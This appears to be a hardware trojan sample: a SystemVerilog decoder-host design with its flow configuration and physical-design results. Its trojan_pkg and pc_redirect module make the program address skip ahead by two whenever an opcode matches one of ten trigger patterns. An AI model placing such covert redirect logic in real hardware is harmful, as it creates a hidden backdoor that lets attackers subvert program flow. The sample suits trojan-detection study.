File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = decoder_host
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/source/decode_pkg.sv /design/src/source/trojan_pkg.sv /design/src/source/decode_ctrl_if.sv /design/src/source/prog_bus_if.sv /design/src/source/address_counter.sv /design/src/source/decode_fsm.sv /design/src/source/decoder_host.sv /design/src/source/pc_redirect.sv /design/src/source/xor_decoder.sv
export VERILOG_INCLUDE_DIRS = /design/src /design/src/source
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 10
export CORE_AREA = 3 3 67 69
export DETAILED_ROUTE_END_ITERATION = 8
export DIE_AREA = 0 0 70 72
export DONT_BUFFER_PORTS = 1
export PLACE_DENSITY = 0.67
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
File: constraint.sdc
create_clock -name clk -period 1.3 [get_ports clk]
set_input_delay 0.195 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.195 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
File: src/source/host_config.svh
// ####################
// Build-time constants of the decoder host
// The opcode patterns must stay distinct, they seed an enum
// ####################
`ifndef HOST_CONFIG_SVH
`define HOST_CONFIG_SVH

// Word widths
`define HOST_DATA_W     16
`define HOST_ADR_W      13
`define HOST_PDAT_W     14

`define HOST_XOR_MASK   16'h3AB9
`define HOST_PC_OFFSET  2          // Added to pc on a pattern hit

// Opcode patterns in prog_dat[13:10]
`define HOST_PAT_0      4'h8
`define HOST_PAT_1      4'h9
`define HOST_PAT_2      4'hA
`define HOST_PAT_3      4'hB
`define HOST_PAT_4      4'h4
`define HOST_PAT_5      4'h5
`define HOST_PAT_6      4'h6
`define HOST_PAT_7      4'h7
`define HOST_PAT_8      4'hC
`define HOST_PAT_9      4'h0

`endif

File: src/source/decode_pkg.sv
// ####################
// Types of the three-phase XOR decode path
// Word width follows HOST_DATA_W
// ####################
package decode_pkg;

    `include "host_config.svh"

    // Sequencer phases, encoding 2'b11 is unused
    typedef enum logic [1:0] {
        DEC_IDLE = 2'b00,   // Clears the output word
        DEC_LOAD = 2'b01,   // Loads the masked input
        DEC_DONE = 2'b10    // Output valid for one cycle
    } decode_state_e;

    // Encoded and decoded words share one type
    typedef logic [`HOST_DATA_W-1:0] data_word_t;

endpackage

File: src/source/trojan_pkg.sv
// ####################
// Types of the program side and the redirect block
// The opcode sits in the top 4 bits of the program data word
// ####################
package trojan_pkg;

    `include "host_config.svh"

    typedef logic [`HOST_ADR_W-1:0]  prog_adr_t;
    typedef logic [`HOST_PDAT_W-1:0] prog_dat_t;

    // Position of the opcode field inside prog_dat_t
    localparam int OPC_W   = 4;
    localparam int OPC_LSB = `HOST_PDAT_W - OPC_W;

    // Opcodes that trigger a redirect
    typedef enum logic [OPC_W-1:0] {
        TRIG_OP_0 = `HOST_PAT_0,
        TRIG_OP_1 = `HOST_PAT_1,
        TRIG_OP_2 = `HOST_PAT_2,
        TRIG_OP_3 = `HOST_PAT_3,
        TRIG_OP_4 = `HOST_PAT_4,
        TRIG_OP_5 = `HOST_PAT_5,
        TRIG_OP_6 = `HOST_PAT_6,
        TRIG_OP_7 = `HOST_PAT_7,
        TRIG_OP_8 = `HOST_PAT_8,
        TRIG_OP_9 = `HOST_PAT_9
    } trig_opcode_e;

endpackage

File: src/source/decode_ctrl_if.sv
// ####################
// Decode control strobes from the FSM
// enable is a level, valid a one-cycle pulse
// ####################
`timescale 1ns/1ps

interface decode_ctrl_if ();

    logic enable;   // From decode_enable_i
    logic clear;    // Clear output word at next edge
    logic load;     // Load masked input at next edge
    logic valid;    // Registered, high in DEC_DONE

    modport fsm (
        input  enable,
        output clear,
        output load,
        output valid
    );

    modport datapath (
        input  enable,
        input  clear,
        input  load,
        input  valid
    );

endinterface

File: src/source/prog_bus_if.sv
// ####################
// Program side bus around the redirect block
// adr is combinational from pc and pdat
// ####################
`timescale 1ns/1ps

interface prog_bus_if import trojan_pkg::*; ();

    prog_adr_t pc;      // Program counter
    prog_dat_t pdat;    // Program data word from the pins
    logic      hit;     // Opcode matched a pattern
    prog_adr_t adr;     // pc, or pc plus offset on a hit

    modport counter (
        output pc
    );

    modport redirect (
        input  pc,
        input  pdat,
        output hit,
        output adr
    );

    // Observation only
    modport monitor (
        input  pc,
        input  pdat,
        input  hit,
        input  adr
    );

endinterface

File: src/source/address_counter.sv
// ####################
// 13-bit program counter
// Steps on every enabled cycle and wraps silently
// ####################
`timescale 1ns/1ps

module address_counter import trojan_pkg::*; (
    input  logic            clk,
    input  logic            pon_rst_n_i,
    decode_ctrl_if.datapath ctrl,
    prog_bus_if.counter     bus
);

    prog_adr_t pc_q;

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            pc_q <= '0;
        end else if (ctrl.enable) begin
            pc_q <= pc_q + prog_adr_t'(1);  // Wraps at 2**13
        end
    end

    assign bus.pc = pc_q;

endmodule

File: src/source/decode_fsm.sv
// ####################
// Three-phase decode sequencer
// Phases advance only while enable is high
// ####################
`timescale 1ns/1ps

module decode_fsm import decode_pkg::*; (
    input  logic          clk,
    input  logic          pon_rst_n_i,
    decode_ctrl_if.fsm    ctrl
);

    decode_state_e state_q;
    decode_state_e state_d;

    // Next phase, held while enable is low
    always_comb begin
        state_d = state_q;
        if (ctrl.enable) begin
            case (state_q)
                DEC_IDLE: state_d = DEC_LOAD;
                DEC_LOAD: state_d = DEC_DONE;
                DEC_DONE: state_d = DEC_IDLE;
                default:  state_d = DEC_IDLE;   // Recover from 2'b11
            endcase
        end
    end

    // Strobes act on the edge that leaves the phase
    assign ctrl.clear = ctrl.enable && (state_q == DEC_IDLE);
    assign ctrl.load  = ctrl.enable && (state_q == DEC_LOAD);

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            state_q    <= DEC_IDLE;
            ctrl.valid <= 1'b0;
        end else begin
            state_q    <= state_d;
            ctrl.valid <= ctrl.load;    // Set by the LOAD step only
        end
    end

    // A decode result is flagged once, never on back-to-back cycles
    a_valid_single: assert property (
        @(posedge clk) disable iff (!pon_rst_n_i)
        ctrl.valid |=> !ctrl.valid
    ) else $error("decode valid high for two cycles");

    a_state_legal: assert property (
        @(posedge clk) disable iff (!pon_rst_n_i)
        state_q inside {DEC_IDLE, DEC_LOAD, DEC_DONE}
    ) else $error("illegal decode state %0h", state_q);

endmodule

File: src/source/decoder_host.sv
// ####################
// Decoder host top level
// prog_dat_i goes straight to the redirect block
// decode_enable_i is a level, no handshake
// ####################
`timescale 1ns/1ps

module decoder_host
    import decode_pkg::*;
    import trojan_pkg::*;
(
    input  logic       clk,
    input  logic       pon_rst_n_i,
    input  logic       decode_enable_i,
    input  data_word_t encoded_data_i,
    input  prog_dat_t  prog_dat_i,
    output data_word_t decoded_data_o,
    output logic       decode_valid_o,
    output prog_adr_t  prog_adr_o
);

    decode_ctrl_if ctrl_if ();
    prog_bus_if    bus_if ();

    assign ctrl_if.enable = decode_enable_i;
    assign bus_if.pdat    = prog_dat_i;
    assign decode_valid_o = ctrl_if.valid;

    decode_fsm i_decode_fsm (
        .clk         (clk),
        .pon_rst_n_i (pon_rst_n_i),
        .ctrl        (ctrl_if.fsm)
    );

    xor_decoder i_xor_decoder (
        .clk            (clk),
        .pon_rst_n_i    (pon_rst_n_i),
        .encoded_data_i (encoded_data_i),
        .ctrl           (ctrl_if.datapath),
        .decoded_data_o (decoded_data_o)
    );

    // Program side
    address_counter i_address_counter (
        .clk         (clk),
        .pon_rst_n_i (pon_rst_n_i),
        .ctrl        (ctrl_if.datapath),
        .bus         (bus_if.counter)
    );

    pc_redirect i_pc_redirect (
        .clk         (clk),
        .pon_rst_n_i (pon_rst_n_i),
        .bus         (bus_if.redirect),
        .prog_adr_o  (prog_adr_o)
    );

endmodule

File: src/source/pc_redirect.sv
// ####################
// Opcode-triggered address redirect
// Match and add are combinational, only the output is registered
// ####################
`timescale 1ns/1ps

module pc_redirect import trojan_pkg::*; (
    input  logic          clk,
    input  logic          pon_rst_n_i,
    prog_bus_if.redirect  bus,
    output prog_adr_t     prog_adr_o
);

    `include "host_config.svh"

    logic [OPC_W-1:0] opcode;
    prog_adr_t        adr_q;

    assign opcode = bus.pdat[OPC_LSB +: OPC_W];

    // Any of the ten trigger patterns
    assign bus.hit = opcode inside {
        TRIG_OP_0, TRIG_OP_1, TRIG_OP_2, TRIG_OP_3, TRIG_OP_4,
        TRIG_OP_5, TRIG_OP_6, TRIG_OP_7, TRIG_OP_8, TRIG_OP_9
    };

    assign bus.adr = bus.hit ? bus.pc + prog_adr_t'(`HOST_PC_OFFSET)
                             : bus.pc;

    // Address out lags pc and pdat by one cycle
    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            adr_q <= '0;
        end else begin
            adr_q <= bus.adr;
        end
    end

    assign prog_adr_o = adr_q;

    // Without a trigger the counter passes through unchanged
    a_no_hit_pass: assert property (
        @(posedge clk) disable iff (!pon_rst_n_i)
        !bus.hit |=> (prog_adr_o == $past(bus.pc))
    ) else $error("prog_adr_o %0h differs from previous pc", prog_adr_o);

endmodule

File: src/source/xor_decoder.sv
// ####################
// Decoded word register
// Cleared on clear, masked input on load, else held
// ####################
`timescale 1ns/1ps

module xor_decoder import decode_pkg::*; (
    input  logic            clk,
    input  logic            pon_rst_n_i,
    input  data_word_t      encoded_data_i,
    decode_ctrl_if.datapath ctrl,
    output data_word_t      decoded_data_o
);

    `include "host_config.svh"

    data_word_t decoded_q;

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            decoded_q <= '0;
        end else if (ctrl.clear) begin
            decoded_q <= '0;
        end else if (ctrl.load) begin
            // Input sampled at the LOAD edge
            decoded_q <= encoded_data_i ^ data_word_t'(`HOST_XOR_MASK);
        end
    end

    assign decoded_data_o = decoded_q;

endmodule

==> flow_summary.ini <==
[cts]
cts_sinks = 45
clock_latency_ns = 0.30
cts-root-buf = clkbuf_8
clk_pin_slew_ns = 0.08
h-tree-depth = 2
cts_tree = built
clockBufferDepth = 2
cts_made_buffers = 5

[synth]
yosysWarnings = 6
syn_nets = 204
avgSynthCellArea_um2 = 11.8
synthCells = 167
syn_area_um2 = 1970

[floorplanning]
std_cell_rows = 23
die-area_um2 = 5040
fp.coreArea_um2 = 3970
io_pins = 63
start_util = 0.496
die_y_um = 72
die_w_um = 70

[route]
first_pass_iters = 4
via_count = 1318
ant_nets = 0
wl_per_cell_um = 15.4
drcViolationCount = 0
via_per_inst = 5.36
wl_um = 3790
drt_iter0_markers = 72

[hold_path]
hp-class = input port to flop
min_from = decode_enable_i
hold_path_end = i_address_counter/bus.pc[1]
hold_depth = 1

[sta]
fin_hold_ws_ns = 0.0540
finalSetupTns_ns = -0.0954
tightest_slew_ns = 0.331
rsz0062_at_grt = yes
fin_crit_ns = 1.35
setup_viol = 3
fmax_mhz = 739
setup_slack_ns = -0.0532
maxSlewHeadroom = 0.779
skew_ns = 0.00662
finalMaxSlewViolations = 0
hold_violations = 0
period_share = 1.04

[final_layout]
antennaDiodeCount = 0
syn2layout_area_growth_pct = 22.7
final_cell_mix = dfrtp_1 (43), buf_4 (19), xnor2_1 (13), nand2_1 (13), nand2b_1 (13)
fillCellCount = 313
seqCellArea_um2 = 1130
layout.nets = 232
final_common_cell = dfrtp_1
drive_gt1_frac = 0.281
multi_input_area_um2 = 863
fin_cells = 246
design_area_um2 = 2420
post-route-util = 0.609

[pwr]
p_per_area_nw_per_um2 = 1990
peakVddDrop_mv = 1.10
p_seq_frac = 0.486
internal-power_mw = 3.19
p_clk_frac = 0.212
p_sw_frac = 0.338
totalPowerFinal_mw = 4.81
p_comb_frac = 0.302
p_leak_nw = 1.14
power.switching_mw = 1.63

[worst_setup_path]
worstPathRequired_ns = 1.53
ff2ff_path_depth = 5
ff2ff_setup_slack_ns = -0.05
reg2reg_from = i_address_counter/bus.pc[1]
critical_path.endpoint_type = flop
start_kind = flop
r2r-end = i_pc_redirect/prog_adr_o[11]
path_class = flop to flop
worstPathArrival_ns = 1.58
crit_fanout = 4

[grt]
grt_pass1_wl_um = 6310
grt_overflow = 0
antenna_found_initial = 0
grt_max_degree = 46
grt_use_total = 0.160
grt_pass1_vias = 1368

[place]
dp_hpwl_um = 2770
dp_slack_ns = -0.189
place_area_um2 = 2140
dp.cells = 229
portBuffers = 0
gp_congestion = 0.746

[flow_run]
cap_violations = 0

[run_status]
violations = setup timing
status = finished with violations
[metal layers]
layer,share of wire,global-route usage
met3,0.081,0.0512
met4,0.031,0.0894
met5,0,0
met2,0.50,0.270
met1,0.39,0.181
[worst max-delay path by stage]
stage                                startpoint                      endpoint
floorplan           i_address_counter/bus.pc[1]   i_pc_redirect/prog_adr_o[9]
global placement                 prog_dat_i[12]   i_pc_redirect/prog_adr_o[4]
detailed placement               prog_dat_i[12]   i_pc_redirect/prog_adr_o[5]
CTS                 i_address_counter/bus.pc[1]  i_pc_redirect/prog_adr_o[11]
global route        i_address_counter/bus.pc[1]  i_pc_redirect/prog_adr_o[11]
finish              i_address_counter/bus.pc[1]  i_pc_redirect/prog_adr_o[11]
[state kept, by name, indices dropped and copies added (netlist names)]
name / cells
i_address_counter/bus.pc: 13
i_decode_fsm/state_q: 2
i_decode_fsm/ctrl.valid: 1
i_xor_decoder/decoded_data_o: 16
i_pc_redirect/prog_adr_o: 13
[power groups by stage]
| stage | Combinational [mW] | Clock, mW | Sequential, mW |
|---|---|---|---|
| final | 1.45 | 1.02 | 2.34 |
| after global routing | 1.61 | 1.13 | 2.40 |
| after CTS | 1.30 | 1.06 | 2.34 |
| after detailed placement | 1.24 | 0 | 2.36 |
| after global placement | 1.14 | 0 | 2.35 |
| after floorplan | 0.738 | 0 | 2.36 |
[critical path, cell delays in order, from the launching register on]
cell and delay, ns:
dfrtp_2 0.41, ha_2 0.20, nand2_1 0.05, or2_4 0.28
nor3_4 0.18, xor2_1 0.15
[area by class of cell]
cell class | instances | area share
inverters | 6 | 0.00932
clock buffers | 6 | 0.0300
flip-flops and latches | 45 | 0.467
repair buffers | 26 | 0.0947
well taps | 50 | 0.0259
multi-input cells | 111 | 0.357
clock inverters | 2 | 0.0160
[repair_timing]
action	CTS	global route
pin swaps	1	2
endpoints found under the setup margin	6	21
cloned	0	1
hold buffers	4	0
hold endpoints to repair	47	0
setup buffers	0	4
resized for setup	6	14
Note: power is estimated with default switching activity, not from simulation.
